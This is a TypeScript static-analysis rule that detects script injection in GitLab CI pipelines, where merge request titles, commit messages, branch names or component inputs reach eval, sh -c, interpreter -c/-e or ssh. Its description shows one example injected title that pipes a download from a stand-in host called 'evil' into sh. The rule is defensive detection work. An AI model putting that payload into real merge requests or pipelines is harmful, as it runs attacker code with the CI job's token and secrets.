import { constrainedInputs, scriptLines } from '../gitlab.js';
import { defineRule, type Hit, type YamlDoc } from '../model.js';

/**
 * Predefined variables whose text an outsider chooses: merge request titles and descriptions,
 * commit messages, branch and tag names, the author's display name. (`CI_COMMIT_REF_SLUG` is
 * reduced to `[a-z0-9-]`, ids and SHAs are not chosen text.)
 */
const UNTRUSTED = /\$\{?(CI_MERGE_REQUEST_(TITLE|DESCRIPTION|SOURCE_BRANCH_NAME)|CI_COMMIT_(MESSAGE|TITLE|DESCRIPTION|TAG_MESSAGE|BRANCH|REF_NAME|TAG|AUTHOR)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME|GITLAB_USER_NAME)\b/;

/**
 * The shell does not re-read what a `$VAR` expands to, so `echo "$CI_COMMIT_MESSAGE"` is safe;
 * the text becomes code where a command parses it again: `eval`, `sh -c "…"`, an interpreter's
 * `-c`/`-e` program, or a command line sent over `ssh`.
 */
const REPARSE = /\beval\b|\b(ba|z|da|k)?sh\s+(-\w+\s+)*-\w*c\b|\b(python3?|node|perl|ruby|php)\s+(-\w+\s+)*-[ce]\b|\bssh\b/;

/** `$[[ inputs.x ]]` is pasted into the script text before it runs (CI/CD component inputs). */
const INPUT = /\$\[\[\s*inputs\.([\w-]+)[^\]]*\]\]/g;

/** Is position `at` of a shell command line inside single quotes (where `$` is literal)? */
function singleQuoted(text: string, at: number): boolean {
  let single = false;
  let double = false;
  for (let i = 0; i < at; i++) {
    const c = text[i];
    if (c === '\\' && !single) i++;
    else if (c === "'" && !double) single = !single;
    else if (c === '"' && !single) double = !double;
  }
  return single;
}

export const rule = defineRule<YamlDoc>({
  meta: {
    id: 'iac/gitlab-script-injection', title: 'Untrusted input becomes code in a GitLab CI script', analyzer: 'iac', severity: 'high', confidence: 'high',
    cwe: [78, 94], owasp: 'A03:2021-Injection', tags: ['gitlab-ci', 'ci', 'injection', 'ai-common'],
    description: 'A component input `$[[ inputs.… ]]` is pasted into the script before the shell reads it, and a merge request title, commit message or branch name expanded inside `eval`, `sh -c "…"`, `python -c "…"` or an `ssh` command line is parsed again as code: a title like `"; curl evil | sh #` runs in the job with its token and variables.',
    fix: 'Keep untrusted text data: pass it as a quoted variable to a command that does not re-parse it (`printf \'%s\\n\' "$CI_COMMIT_MESSAGE"`), never inside `eval`/`sh -c`/`ssh "…"`. For component inputs, declare `type: number|boolean` or `options:`, or copy the input into `variables:` and use `"$VAR"` in the script.',
    examples: { lang: 'yaml', bad: 'script:\n  - eval "notify --title \'$CI_MERGE_REQUEST_TITLE\'"', good: 'script:\n  - notify --title "$CI_MERGE_REQUEST_TITLE"' },
  },
  refs: { none: 'Checkov (CKV_GITLABCI_1–3), KICS and the Semgrep registry have no check for merge-request or commit fields expanded in `script:`.' },
  applies: ['gitlab-ci'],
  check(d) {
    const hits: Hit[] = [];
    const lines = scriptLines(d);
    const safeInputs = lines.some((l) => l.text.includes('$[[')) ? constrainedInputs(d.text) : new Set<string>();
    for (const l of lines) {
      const input = [...l.text.matchAll(INPUT)].find((m) => !safeInputs.has(m[1]!));
      if (input) {
        hits.push({ line: l.line, message: `job '${l.job}' pastes ${input[0]} into its script` });
        continue;
      }
      const reparse = REPARSE.exec(l.text);
      if (!reparse) continue;
      // Inside single quotes the outer shell passes `$VAR` on unexpanded: the inner command reads it as data.
      const variable = [...l.text.matchAll(new RegExp(UNTRUSTED.source, 'g'))].find((m) => m.index > reparse.index && !singleQuoted(l.text, m.index));
      if (variable) hits.push({ line: l.line, message: `job '${l.job}' runs ${variable[0].replace(/[${]/g, '')} as code through ${reparse[0].trim()}` });
    }
    return hits;
  },
});
